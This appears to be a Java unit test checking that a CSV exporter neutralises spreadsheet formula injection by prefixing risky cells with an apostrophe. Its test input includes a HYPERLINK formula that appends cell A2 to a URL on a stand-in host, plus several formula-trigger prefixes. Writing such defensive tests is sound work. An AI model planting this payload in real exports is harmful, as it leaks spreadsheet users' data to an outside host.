package org.uncac.platform.web;

import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.junit.jupiter.api.Test;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class CsvExportTest {

    private static final CsvSchema SCHEMA = CsvSchema.builder().addColumn("stateCode").addColumn("answer").build();

    private static String exported(String answer) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("stateCode", "AUT");
        row.put("answer", answer);
        return CsvExport.write(SCHEMA, List.of(row));
    }

    @Test
    void aCellThatASpreadsheetWouldTakeForAFormulaIsWrittenAsText() {
        assertThat(exported("=HYPERLINK(\"http://x.invalid/?\"&A2,\"open\")"))
                .isEqualTo("stateCode,answer\nAUT,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A2,\"\"open\"\")\"\n");
        for (String formula : List.of("+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1")) {
            assertThat(exported(formula)).as(formula).contains("'" + formula.charAt(0));
        }
    }

    @Test
    void ordinaryTextAndOtherValuesAreWrittenAsGiven() {
        assertThat(exported("Yes, in 2019 (art. 46 (13))")).isEqualTo("stateCode,answer\nAUT,\"Yes, in 2019 (art. 46 (13))\"\n");
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("stateCode", "AUT");
        row.put("answer", true);
        assertThat(CsvExport.write(SCHEMA, List.of(row))).isEqualTo("stateCode,answer\nAUT,true\n");
    }
}
